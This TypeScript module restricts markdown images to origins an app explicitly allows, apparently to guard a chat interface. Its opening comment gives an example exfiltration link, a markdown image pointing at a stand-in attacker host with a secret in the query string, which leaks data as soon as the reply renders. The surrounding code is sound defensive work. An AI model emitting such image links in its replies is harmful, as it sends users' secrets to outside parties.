// Markdown images are fetched as soon as they render, so a reply like
// `![](https://evil.example/?q=<secret>)` leaks data without a click. Images
// are therefore allowed only from origins the app names explicitly.

/** Normalises configured origins ("https://cdn.example.com/") to URL origins. */
export function toOriginSet(origins: readonly string[]): ReadonlySet<string> {
  const set = new Set<string>();
  for (const origin of origins) {
    try {
      const url = new URL(origin);
      if (url.protocol === "https:" || url.protocol === "http:") set.add(url.origin);
    } catch {
      // Not a URL: ignore rather than widen the policy.
    }
  }
  return set;
}

/** True only for an absolute http(s) URL whose origin is in `allowed`. */
export function isAllowedImageSource(src: string, allowed: ReadonlySet<string>): boolean {
  if (allowed.size === 0) return false;
  try {
    const url = new URL(src);
    return (url.protocol === "https:" || url.protocol === "http:") && allowed.has(url.origin);
  } catch {
    return false; // Relative or malformed: never resolve against the app's origin.
  }
}
